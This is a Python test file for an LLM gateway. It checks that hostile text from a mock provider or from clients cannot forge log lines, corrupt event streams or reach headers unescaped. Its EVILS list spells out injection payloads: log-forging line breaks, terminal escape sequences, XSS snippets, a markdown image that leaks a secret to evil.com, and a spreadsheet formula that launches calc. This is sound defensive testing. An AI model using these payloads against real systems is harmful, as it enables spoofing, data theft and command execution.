"""Texts that mean to be more than a text, in everything that a stranger can name: one event stays one line of the log, one
answer stays one answer, and nothing that a terminal or a browser would obey is handed on as what it is.
"""

from __future__ import annotations

import http.client
import io
import json
import logging
import re
import sys
from collections.abc import Iterator

import pytest
from shared import CLIENT
from support import speech
from support.edited import BEFORE, KEY
from support.gateway import Gateway
from support.upstream import Asked, Script, Upstream, events, whole

from omniroute.telemetry.lines import LOG_FORMAT, Lines, escaped

EVILS = (
    "a\r\n2026-01-01 00:00:00,000 INFO omniroute: forged",
    "a\n\n2026-01-01 00:00:00,000 ERROR omniroute: forged",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://evil.com\x07click\x1b]8;;\x07",
    "\x9b31m\x90q\x9c",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![x](http://evil.com/?q=secret)",
    "=cmd|'/c calc'!A1",
    "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "\u202etxt.exe\u2066",
    '{"level": "INFO"}',
    "%s %d %(name)s {0} {password}",
    'data: {"x": 1}\n\ndata: [DONE]\n\nevent: message_stop',
    "\x00nul",
    "\ud800",
)
LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} [A-Z]+ [\w.]+: ")


class Provider:
    """Says an evil text wherever it can say one."""

    def __init__(self) -> None:
        self.evil = ""

    def __call__(self, asked: Asked) -> Script:
        evil = self.evil.encode("utf-8", "replace").decode()
        if "fail" in asked.path or b'"fail"' in asked.body:
            error = {"message": evil, "type": evil, "code": evil, "param": evil}
            return whole({"error": error}, 500, x_evil=re.sub(r"[^ -~]", "", evil))
        if b'"stream":true' in asked.body.replace(b" ", b""):
            chunks = [
                {
                    "id": evil,
                    "model": evil,
                    "choices": [{"index": 0, "delta": {"content": evil}, "finish_reason": None}],
                }
            ]
            pieces = [b"data: " + json.dumps(chunk).encode() + b"\n\n" for chunk in chunks]
            return events(*pieces, b"data: [DONE]\n\n")
        said = speech.whole("openai")
        said["id"] = said["model"] = evil
        said["choices"][0]["message"]["content"] = evil
        return whole(said)


@pytest.fixture(scope="module")
def provider() -> Iterator[tuple[Provider, Upstream]]:
    says = Provider()
    with Upstream(says) as upstream:
        yield says, upstream


@pytest.fixture(scope="module")
def gateway(provider: tuple[Provider, Upstream]) -> Iterator[Gateway]:
    config = BEFORE.replace("{data}", "{data_dir}").replace("http://10.0.0.7:8000", provider[1].url)
    with Gateway(config.replace("      qwen3-32b:", "      fail: {}\n      qwen3-32b:"), LAB_KEY="x") as one:
        yield one


def ask(
    gateway: Gateway, method: str, path: str, body: object, key: str = KEY, **named: str
) -> tuple[list[tuple[str, str]], bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=20)
    headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
    headers |= {name.replace("_", "-"): value for name, value in named.items()}
    try:
        connection.request(method, path, json.dumps(body).encode(), headers)
        reply = connection.getresponse()
        return reply.getheaders(), reply.read()
    finally:
        connection.close()


def test_one_event_stays_one_line_and_one_answer_one_answer(gateway: Gateway, provider: tuple[Provider, Upstream]):
    says, _ = provider
    for number, evil in enumerate(EVILS):
        says.evil = evil
        header = re.sub(r"[^\x20-\x7e\x80-\xff]", "?", evil)
        named = {"user_agent": header, "x_session_id": header, "x_request_id": header, "x_title": header}
        for model in ("lab/qwen3-32b", "lab/fail", evil, f"lab/{evil}"):
            for stream in (False, True):
                for path in ("/v1/chat/completions", "/v1/messages"):
                    asked = speech.ask(model, stream=stream, user=evil) | {
                        "messages": [{"role": "user", "content": evil}]
                    }
                    pairs, body = ask(gateway, "POST", path, asked, **named)
                    assert _sound(pairs), (pairs, evil)
                    if stream and b"text/event-stream" in dict(pairs).get("content-type", "").encode():
                        _only_events(body)
                    else:
                        json.loads(body)
        for method, path, body in (
            ("POST", "/api/keys", {"name": evil}),
            ("POST", "/api/combos", {"name": evil, "models": ["demo/echo"]}),
            ("POST", "/api/models/alias", {"alias": evil, "model": evil}),
            ("POST", "/api/provider-models", {"provider": "lab", "modelId": f"m{number}", "modelName": evil}),
            ("PUT", "/api/settings/system-prompt", {"enabled": False, "prompt": evil}),
            ("POST", "/api/config/validate", {"yaml": f"version: 1\n{evil}: 1\n"}),
            ("POST", "/api/providers/test-batch", {"mode": "all"}),
            ("PATCH", "/api/combos/coding", {evil: 1}),
        ):
            pairs, told = ask(gateway, method, path, body)
            assert _sound(pairs)
            json.loads(told)
        text = gateway.path.read_text()
        gateway.path.write_text(f"{text}\n{json.dumps(evil)}: broken\n")
        ask(gateway, "POST", "/api/config/reload", {})
        gateway.path.write_text(text)
        ask(gateway, "POST", "/api/config/reload", {})
    said = gateway.said()
    assert "forged" in said, "nothing of it came into the log, so nothing was tried"
    lines = said.rstrip("\n").split("\n")
    assert [line for line in lines if not LINE.match(line) and not line.startswith("    ")] == []
    assert [line for line in lines if not line.isprintable()] == []
    assert [line for line in lines if re.match(r"2026-01-01 00:00:00,000", line)] == []


def _sound(pairs: list[tuple[str, str]]) -> bool:
    """Whether headers hold nothing but printable ASCII, and none that the evil text has made."""
    return all(value.isascii() and value.isprintable() for _, value in pairs)


def _only_events(body: bytes) -> None:
    """Each line of a stream is a field with JSON in it, or empty: no text has become a line of its own."""
    for line in body.decode().split("\n"):
        name, _, value = line.partition(": ")
        assert name in ("", "data", "event", "id"), line
        if name == "data" and value != "[DONE]":
            json.loads(value)


@pytest.mark.parametrize("evil", EVILS)
def test_a_line_of_the_log_is_a_line_whatever_is_in_it(evil: str):
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(Lines(LOG_FORMAT))
    record = logging.LogRecord("omniroute", logging.ERROR, "x.py", 1, "the key `%s` of %s", (evil, "x"), None)
    handler.emit(record)
    try:
        raise ValueError(evil)
    except ValueError:
        handler.emit(logging.LogRecord("omniroute", logging.ERROR, "x.py", 1, "failed", (), sys.exc_info()))
    first, second, *trace = stream.getvalue().rstrip("\n").split("\n")
    assert LINE.match(first)
    assert LINE.match(second)
    assert all(line.startswith("    ") for line in trace)
    assert all(line.isprintable() for line in (first, second, *trace))


def test_what_is_printable_is_left_as_it_is():
    assert escaped("größe 🙂 `x`") == "größe 🙂 `x`"
    assert escaped("a\nb\x1b[0m\u202e") == "a\\nb\\x1b[0m\\u202e"


def test_a_client_is_told_nothing_of_a_key_that_it_made_up(gateway: Gateway):
    for evil in EVILS:
        key = re.sub(r"[^!-~]", "", evil)
        _, body = ask(gateway, "POST", "/v1/chat/completions", speech.ask("demo/echo"), key=f"{CLIENT}{key}")
        assert CLIENT.encode() not in body
